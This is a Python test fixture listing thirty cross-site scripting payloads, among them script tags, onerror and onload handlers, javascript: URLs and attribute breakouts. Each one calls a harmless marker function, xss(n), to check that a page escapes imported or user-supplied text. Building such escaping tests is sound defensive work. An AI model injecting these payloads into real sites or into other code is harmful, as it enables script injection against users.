"""Thirty texts that would run something where they came out unescaped; each calls `xss(n)`.

For whoever tests a way in or a way out: imported fields, forms, file names, popups, JSON-LD,
mails. A page shows them as text; the browser runs none and reports nothing to the policy.
"""

PAYLOADS = [
    "<script>xss(1)</script>",
    "</script><script>xss(2)</script>",
    "<ScRiPt>xss(3)</sCrIpT>",
    "<img src=x onerror=xss(4)>",
    '"><img src=x onerror="xss(5)">',
    "'><img src=x onerror='xss(6)'>",
    "<svg onload=xss(7)>",
    "<svg><script>xss(8)</script></svg>",
    "<body onload=xss(9)>",
    "<iframe srcdoc='<script>xss(10)</script>'></iframe>",
    '<iframe src="javascript:xss(11)"></iframe>',
    '<a href="javascript:xss(12)">12</a>',
    "<details open ontoggle=xss(13)>",
    '" autofocus onfocus="xss(14)" x="',
    "' autofocus onfocus='xss(15)' x='",
    "<input autofocus onfocus=xss(16)>",
    "<math><mtext><img src=x onerror=xss(17)></mtext></math>",
    "</textarea><script>xss(18)</script>",
    "</title><script>xss(19)</script>",
    "</option></select><img src=x onerror=xss(20)>",
    "<!--><img src=x onerror=xss(21)>-->",
    "<![CDATA[<script>xss(22)</script>]]>",
    "[[constructor.constructor('xss(23)')()]]",
    "${xss(24)}",
    "\\u003cscript\\u003exss(25)\\u003c/script\\u003e",
    "&lt;script&gt;xss(26)&lt;/script&gt;",
    "<template><script>xss(27)</script></template><img src=x onerror=xss(27)>",
    "<style>@import 'javascript:xss(28)';</style>",
    "<link rel=stylesheet href=javascript:xss(29)>",
    "<form action=javascript:xss(30)><button>30</button></form>",
]
assert len(PAYLOADS) == 30
